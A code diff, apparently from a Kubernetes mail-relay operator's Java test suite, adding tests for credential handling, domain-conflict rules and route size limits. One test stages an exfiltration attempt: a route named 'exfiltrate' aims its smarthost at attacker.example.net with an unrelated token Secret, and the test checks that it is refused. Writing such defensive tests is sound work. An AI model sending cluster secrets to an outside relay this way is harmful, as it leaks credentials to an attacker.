@@ -14,6 +14,7 @@ import io.mailroute.api.v1alpha1.NextHopHost;
 import io.mailroute.api.v1alpha1.RouteTarget;
 import io.mailroute.api.v1alpha1.SecretKeys;
 import io.mailroute.api.v1alpha1.SmarthostTarget;
+import io.mailroute.postfix.PostfixConfig;
 import io.mailroute.routing.RelayPlanner;
 import io.mailroute.testing.ControlPlaneResource;
 import io.mailroute.testing.KnotResource;
@@ -265,9 +266,7 @@ class MailRouteOperatorTest {
     @Test
     void smarthostCredentialsGoOnlyIntoTheRelaySecret() {
         client.resource(Resources.relay(ns.name(), "relay")).create();
-        client.resource(new SecretBuilder().withNewMetadata().withName("smarthost-auth").withNamespace(ns.name())
-                .endMetadata().withStringData(Map.of("username", "relay-user", "password", "s3cret-Pa55"))
-                .build()).create();
+        client.resource(credentialsSecret("smarthost-auth", "relay-user", "s3cret-Pa55")).create();
         MailRoute route = Resources.pinnedRoute(ns.name(), "via-smarthost", "relay", "unused.example", "example.org");
         route.getSpec().target = new RouteTarget();
         route.getSpec().target.relay = new SmarthostTarget("smtp.example.net", 587);
@@ -285,6 +284,19 @@ class MailRouteOperatorTest {
             assertCondition(route("via-smarthost").getStatus().conditions, "Ready", "True", "Ready");
         });
         assertThat(configMap().getData().values()).noneMatch(v -> v.contains("s3cret-Pa55"));
+        // the public hash is keyed by the relay Secret's hash-key, which stays the same across reconciles
+        Secret sasl = client.secrets().inNamespace(ns.name()).withName("relay-sasl").get();
+        String key = decode(sasl, "hash-key");
+        assertThat(key).matches("[0-9a-f]{64}");
+        Map<String, String> files = configMap().getData();
+        PostfixConfig published = new PostfixConfig(files.get("main.cf"), files.get("transport"),
+                files.get("tls_policy"), decode(sasl, "sasl_passwd"), List.of());
+        assertThat(files.get("config-hash")).isEqualTo(published.hash(key))
+                .isNotEqualTo(published.hash(PostfixConfig.newHashKey()));
+        editRoute("via-smarthost", r -> r.getSpec().domains = List.of("example.org", "example.net"));
+        await().untilAsserted(() -> assertThat(transport()).containsKey("example.net"));
+        assertThat(decode(client.secrets().inNamespace(ns.name()).withName("relay-sasl").get(), "hash-key"))
+                .isEqualTo(key);
         assertThat(client.getKubernetesSerialization().asJson(route("via-smarthost"))).doesNotContain("s3cret-Pa55");
 
         client.resources(MailRoute.class).inNamespace(ns.name()).withName("via-smarthost").delete();
@@ -306,6 +318,124 @@ class MailRouteOperatorTest {
             assertThat(accepted.getMessage()).contains(ns.name() + "/absent");
             assertThat(transport()).isEmpty();
         });
+    }
+
+    @Test
+    void credentialsAreReadOnlyFromSecretsMadeForThem() {
+        client.resource(Resources.relay(ns.name(), "relay")).create();
+        // e.g. a service-account token: the route's author may not read it, so the operator must not send it anywhere
+        client.resource(new SecretBuilder().withNewMetadata().withName("not-for-mail").withNamespace(ns.name())
+                .endMetadata().withStringData(Map.of("username", "app", "password", "t0ken-value")).build()).create();
+        MailRoute route = Resources.pinnedRoute(ns.name(), "exfiltrate", "relay", "unused.example", "example.org");
+        route.getSpec().target = new RouteTarget();
+        route.getSpec().target.relay = new SmarthostTarget("attacker.example.net", 587);
+        route.getSpec().target.relay.authSecretRef = new SecretKeys("not-for-mail");
+        route.getSpec().tls = io.mailroute.api.v1alpha1.TlsPolicy.ENCRYPT;
+        client.resource(route).create();
+        await().untilAsserted(() -> {
+            Condition accepted = assertCondition(route("exfiltrate").getStatus().conditions, "Accepted", "False",
+                    "SecretNotForCredentials");
+            assertThat(accepted.getMessage()).contains(ns.name() + "/not-for-mail", "mailroute.io/credentials");
+            assertThat(transport()).isEmpty();
+        });
+        assertThat(client.secrets().inNamespace(ns.name()).withName("relay-sasl").get()).isNull();
+        assertThat(client.getKubernetesSerialization().asJson(route("exfiltrate"))).doesNotContain("t0ken-value");
+    }
+
+    @Test
+    void defaultRouteSmarthostCredentialsAreRenderedIntoTheRelaySecret() {
+        client.resource(credentialsSecret("smarthost-auth", "default-user", "dEfault-Pa55")).create();
+        MailRelay relay = Resources.relay(ns.name(), "relay");
+        relay.getSpec().defaultRoute = new io.mailroute.api.v1alpha1.DefaultRoute();
+        relay.getSpec().defaultRoute.smarthost = new SmarthostTarget("smarthost.example.net", 587);
+        relay.getSpec().defaultRoute.smarthost.authSecretRef = new SecretKeys("smarthost-auth");
+        relay.getSpec().defaultRoute.tls = io.mailroute.api.v1alpha1.TlsPolicy.VERIFY;
+        client.resource(relay).create();
+        await().untilAsserted(() -> {
+            Secret sasl = client.secrets().inNamespace(ns.name()).withName("relay-sasl").get();
+            assertThat(sasl).isNotNull();
+            assertThat(decode(sasl, "sasl_passwd")).contains("[smarthost.example.net]:587 default-user:dEfault-Pa55");
+            assertThat(configMap().getData().get("main.cf")).contains("relayhost = [smarthost.example.net]:587")
+                    .contains("smtp_sasl_auth_enable = yes");
+        });
+        assertThat(configMap().getData().values()).noneMatch(v -> v.contains("dEfault-Pa55"));
+
+        // the same Secret rules as for routes: another Secret makes the relay invalid, the config stays as it was
+        client.resource(new SecretBuilder().withNewMetadata().withName("other").withNamespace(ns.name())
+                .endMetadata().withStringData(Map.of("username", "u", "password", "p")).build()).create();
+        await().untilAsserted(() -> client.resources(MailRelay.class).inNamespace(ns.name()).withName("relay")
+                .edit(r -> {
+                    r.getSpec().defaultRoute.smarthost.authSecretRef = new SecretKeys("other");
+                    return r;
+                }));
+        await().untilAsserted(() -> {
+            MailRelay current = client.resources(MailRelay.class).inNamespace(ns.name()).withName("relay").get();
+            Condition programmed = assertCondition(current.getStatus().conditions, "Programmed", "False",
+                    "SecretNotForCredentials");
+            assertThat(programmed.getMessage()).contains(ns.name() + "/other",
+                    "spec.defaultRoute.smarthost.authSecretRef");
+        });
+    }
+
+    @Test
+    void aRouteOfAnotherNamespaceCannotTakeADomainInsideAnOlderSubdomainTree() {
+        try (TestNamespace other = TestNamespace.create(client)) {
+            client.resource(Resources.relayAllowingAll(ns.name(), "relay")).create();
+            MailRoute owner = Resources.pinnedRoute(ns.name(), "owner", "relay", "mx1.example.test", "example.com");
+            owner.getSpec().includeSubdomains = true;
+            client.resource(owner).create();
+            await().untilAsserted(() -> assertThat(transport()).containsKey(".example.com"));
+            sleepPastCreationTimestampResolution();
+            MailRoute thief = Resources.pinnedRoute(other.name(), "thief", "relay", "mx2.example.test",
+                    "payroll.example.com", "example.net");
+            thief.getSpec().relayRefs.get(0).namespace = ns.name();
+            client.resource(thief).create();
+            await().untilAsserted(() -> {
+                assertThat(transport()).containsOnlyKeys("example.com", ".example.com", "example.net");
+                MailRoute route = client.resources(MailRoute.class).inNamespace(other.name()).withName("thief").get();
+                Condition programmed = assertCondition(route.getStatus().conditions, "Programmed", "False",
+                        "DomainConflict");
+                assertThat(programmed.getMessage()).contains("MailRoute " + ns.name() + "/owner");
+                assertThat(route.getStatus().domains).extracting(d -> d.domain + "=" + d.state)
+                        .containsExactly("example.net=Programmed", "payroll.example.com=Conflict");
+            });
+        }
+    }
+
+    @Test
+    void aRouteTooLargeForTheRelayIsRefusedAloneAndTheOthersStayProgrammed() {
+        client.resource(Resources.relay(ns.name(), "relay")).create();
+        // the route: 256 domains x 16 hosts with long names and subdomains renders over 2 MB
+        String[] domains = new String[256];
+        for (int i = 0; i < domains.length; i++) {
+            domains[i] = "d" + i + "-" + "x".repeat(50) + ".example";
+        }
+        MailRoute huge = Resources.pinnedRoute(ns.name(), "huge", "relay", "unused.example", domains);
+        huge.getSpec().includeSubdomains = true;
+        huge.getSpec().target.hosts = new java.util.ArrayList<>();
+        for (int i = 0; i < 16; i++) {
+            huge.getSpec().target.hosts.add(new NextHopHost(
+                    "mx" + i + "-" + "y".repeat(50) + ".relay-" + "z".repeat(40) + ".example.net", 25, false));
+        }
+        client.resource(huge).create();
+        client.resource(Resources.pinnedRoute(ns.name(), "small", "relay", "mx1.example.org", "example.org")).create();
+        await().untilAsserted(() -> {
+            Condition accepted = assertCondition(route("huge").getStatus().conditions, "Accepted", "False",
+                    "RouteTooLarge");
+            assertThat(accepted.getMessage()).contains("at most 65536 bytes");
+            assertCondition(route("small").getStatus().conditions, "Programmed", "True", "Programmed");
+            assertThat(transport()).containsOnlyKeys("example.org");
+        });
+    }
+
+    private Secret credentialsSecret(String name, String username, String password) {
+        return new SecretBuilder().withNewMetadata().withName(name).withNamespace(ns.name()).addToLabels("mailroute.io/credentials", "true")
+                .endMetadata().withType("kubernetes.io/basic-auth")
+                .withStringData(Map.of("username", username, "password", password)).build();
+    }
+
+    private static String decode(Secret secret, String key) {
+        return new String(Base64.getDecoder().decode(secret.getData().get(key)), StandardCharsets.UTF_8);
     }
 
     private static void sleepPastCreationTimestampResolution() {
